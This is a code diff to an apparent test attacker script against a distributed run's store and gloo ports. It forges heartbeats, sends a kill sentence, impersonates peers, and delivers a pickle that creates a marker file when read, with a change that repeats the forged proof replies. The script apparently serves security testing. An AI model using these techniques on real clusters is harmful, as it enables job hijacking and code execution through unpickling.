@@ -1,6 +1,6 @@
 """A stranger who wants into a run: another user, who knows the ports that the run listens on and how it works.
 
-    python attacker.py ADDRESS UNRELATED_PID MARKER SECONDS [PORT ...]
+    python attacker.py ADDRESS UNRELATED_PID MARKER ANSWERS SECONDS [PORT ...]
 
 Started as root he becomes the user "nobody". He tries, again and again, at every port (default: all that listen on his
 machine, as every user may know them):
@@ -8,7 +8,7 @@ machine, as every user may know them):
 - as a client of a store: beats in which every process of the run is `UNRELATED_PID`, which does not belong to it, and
   is stopped; and a sentence that is to end the run;
 - as process 0 of its groups, with a pickle that makes `MARKER` when it is read;
-- at gloo's own door: to be taken for each of its peers, before they come.
+- at gloo's own door: to be taken for each of its peers, before they come; who is taken in sends `ANSWERS` proofs.
 
 He prints what he reached, one of WORDS a line.
 """
@@ -106,8 +106,8 @@ def take_places(address: str, port: int, sockets: list[socket.socket]) -> None:
             sockets.append(connection)
 
 
-def look(sockets: list[socket.socket]) -> None:
-    """A peer that was taken in is sent something, and answers with what it likes: here 32 zeros, as a proof."""
+def look(sockets: list[socket.socket], answers: int) -> None:
+    """Who is taken for a peer is sent something, and answers with what he likes: here `answers` proofs of 32 zeros."""
     for connection in sockets:
         with contextlib.suppress(OSError):
             if content := connection.recv(4096):
@@ -116,7 +116,7 @@ def look(sockets: list[socket.socket]) -> None:
                     place = content[16:24]
                     head = struct.pack("<QQ", 48 + 32, 1) + place + struct.pack("<QQQ", 0, 32, 0)
                     connection.sendall(struct.pack("<QQ", 48, 3) + place + struct.pack("<QQQ", 0, 32, 0))
-                    connection.sendall(head + bytes(32))
+                    connection.sendall((head + bytes(32)) * answers)
 
 
 def become_nobody() -> None:
@@ -131,8 +131,9 @@ def become_nobody() -> None:
 
 
 def main() -> None:
-    address, pid, marker, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
-    given = [int(port) for port in sys.argv[5:]]
+    address, pid, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+    answers, seconds = int(sys.argv[4]), float(sys.argv[5])
+    given = [int(port) for port in sys.argv[6:]]
     if os.geteuid() == 0:
         become_nobody()
     deadline, seen, sockets = time.monotonic() + seconds, set(), []
@@ -146,7 +147,7 @@ def main() -> None:
                 seen.add(port)
                 threading.Thread(target=forge, args=(address, port, pid), daemon=True).start()
                 threading.Thread(target=impersonate, args=(address, port, marker), daemon=True).start()
-        look(sockets)
+        look(sockets, answers)
         time.sleep(0.002)
     os._exit(0)
 
